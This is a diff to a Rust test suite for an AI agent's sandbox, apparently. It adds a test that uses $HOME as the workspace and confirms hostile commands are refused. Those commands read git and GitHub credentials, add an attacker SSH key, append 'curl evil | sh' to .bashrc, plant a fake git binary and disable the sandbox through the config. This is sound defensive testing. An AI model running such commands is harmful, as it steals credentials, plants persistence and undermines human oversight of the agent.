@@ -415,7 +415,18 @@ fn run_with(
     mode: &str,
     settings: &str,
 ) -> (Vec<(String, bool)>, String) {
-    let config = f.home.path().join(".config/bareagent/config.toml");
+    run_in(f.home.path(), f.dir.path(), cases, mode, settings)
+}
+
+/// The same, with `$HOME` at `home` and the workspace at `dir`.
+fn run_in(
+    home: &Path,
+    dir: &Path,
+    cases: &[Case],
+    mode: &str,
+    settings: &str,
+) -> (Vec<(String, bool)>, String) {
+    let config = home.join(".config/bareagent/config.toml");
     std::fs::create_dir_all(config.parent().expect("parent")).expect("mkdir");
     // `mode` may carry more lines of the table (`workspace-write"\nnetwork = true`).
     std::fs::write(
@@ -429,9 +440,9 @@ fn run_with(
         .collect();
     script.push(Reply::text("done").into());
     let server = ModelServer::start(script);
-    let mut command = crate::common::bareagent(f.dir.path());
+    let mut command = crate::common::bareagent(dir);
     let out = crate::common::run_against_model(&mut command, &server)
-        .env("HOME", f.home.path())
+        .env("HOME", home)
         .env_remove("XDG_CONFIG_HOME")
         .args(["--permission-mode", "bypass", "--idle-timeout", "10", "go"])
         .output()
@@ -555,6 +566,81 @@ fn the_sandbox_refuses_what_it_must_and_says_why_and_off_lets_it_through() {
         Some(4),
         "with the sandbox off the datagram arrives"
     );
+}
+
+/// `$HOME` as the workspace: the secrets in it stay unreadable to
+/// commands, and what the shell and git run later stays unwritable, while
+/// the rest of the workspace is written as usual.
+#[test]
+fn a_workspace_at_home_keeps_its_secrets_and_startup_files() {
+    let Some(_) = landlock_abi() else { return };
+    let home = workspace(&[
+        (".ssh/authorized_keys", "ssh-ed25519 AAAA mine\n"),
+        (".git-credentials", "https://user:ghp_tok3n@github.com\n"),
+        (".config/gh/hosts.yml", "oauth_token: gho_tok3n\n"),
+        (".bashrc", "alias ll='ls -l'\n"),
+        (".local/bin/tool", "#!/bin/sh\n"),
+        ("notes.txt", "mine\n"),
+    ]);
+    let home = home.path();
+    let case = |name, command: &str, on| Case {
+        name,
+        command: command.into(),
+        on,
+        off: Expect::Succeeds,
+        secret: Some("tok3n"),
+    };
+    let cases = [
+        case(
+            "read .git-credentials",
+            "cat .git-credentials",
+            Expect::Refused(Some("reading it is refused")),
+        ),
+        case(
+            "read the GitHub CLI's token",
+            "cat .config/gh/hosts.yml",
+            Expect::Refused(Some("reading it is refused")),
+        ),
+        case(
+            "add a key to .ssh/authorized_keys",
+            "echo 'ssh-ed25519 AAAA attacker' >> .ssh/authorized_keys",
+            Expect::Refused(None),
+        ),
+        case(
+            "append to .bashrc",
+            "echo 'curl evil | sh' >> .bashrc",
+            Expect::Refused(Some("commands may not change, move or link it")),
+        ),
+        case(
+            "plant a program in ~/.local/bin",
+            "echo evil > .local/bin/git",
+            Expect::Refused(Some("commands may not change, move or link it")),
+        ),
+        case(
+            "write the agent's config",
+            "printf '[sandbox]\\nmode = \\\"off\\\"\\n' > .config/bareagent/config.toml",
+            Expect::Refused(None),
+        ),
+        case(
+            "write an ordinary file",
+            "echo ok > made.txt && cat notes.txt",
+            Expect::Succeeds,
+        ),
+        case(
+            "read it in the next command",
+            "cat made.txt",
+            Expect::Succeeds,
+        ),
+    ];
+    let (results, _) = run_in(home, home, &cases, "workspace-write", "");
+    let failures: Vec<String> = cases
+        .iter()
+        .zip(&results)
+        .filter_map(|(case, result)| verdict(case, case.on, result, "on").err())
+        .collect();
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+    let keys = std::fs::read_to_string(home.join(".ssh/authorized_keys")).expect("keys");
+    assert!(!keys.contains("attacker"), "{keys}");
 }
 
 /// Trust loosens permissions, never the sandbox: a trusted project's
